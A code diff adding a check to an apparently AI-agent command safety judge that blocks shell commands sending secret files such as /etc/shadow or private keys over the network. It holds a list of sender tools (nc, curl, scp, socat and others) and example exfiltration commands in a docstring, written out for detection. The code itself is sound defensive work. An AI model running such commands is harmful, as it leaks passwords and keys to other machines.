@@ -333,6 +333,10 @@ class Judge(Memory, CodeJudge):
         if program in NETCATS and netcat_exec(argv):
             self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} hands a shell or program to "
                                   "the network", block=True)
+        secret = _sent_secret(program, argv, command)
+        if secret is not None:
+            self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} sends {secret} (passwords "
+                                  "or private keys) to another machine", block=True)
         if program in NETCATS and command is not None and _shell_upstream(command):
             self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} sends the output of a shell "
                                   "that reads its commands from elsewhere (a reverse shell)",
@@ -564,6 +568,39 @@ class Judge(Memory, CodeJudge):
 
 
 _GLOB_START = frozenset("*?[")
+
+
+# programs that send what they are given (files named, or their input) to another machine
+_SENDERS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
+                      "telnet", "curl", "wget", "scp", "sftp", "rsync", "ftp", "tftp", "ssh",
+                      "mail", "mailx", "sendmail", "mutt", "openssl"})
+
+
+def _sent_secret(program: str, argv: list[str], command: SimpleCommand | None) -> str | None:
+    """A secret file (`/etc/shadow`, a private key) a sender is given: named in its words
+    (`curl -d @/etc/shadow`, `scp /etc/shadow h:`), on its input (`< /etc/shadow`), or read
+    by a command earlier in its pipeline (`cat /etc/shadow | nc h p`). ssh's own words run
+    on the other machine, so only its input counts."""
+    from reos.safety.paths import is_secret
+
+    words = [] if program == "ssh" else argv[1:]
+    if command is not None:
+        words = [*words, *(r.target for r in command.redirects if r.op in ("<", "<>"))]
+        up = command.upstream
+        for _ in range(1000):
+            if up is None:
+                break
+            words += up.argv[1:] + [r.target for r in up.redirects if r.op == "<"]
+            up = up.upstream
+    if program not in _SENDERS and not (command is not None and any(
+            r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects
+            if r.op in _WRITE_OPS)):
+        return None
+    for word in words:
+        path = word.rpartition("@")[2] if "@" in word else word.rpartition("=")[2]
+        if path and is_secret(path):
+            return path
+    return None
 
 
 def _shell_upstream(command: SimpleCommand) -> bool:
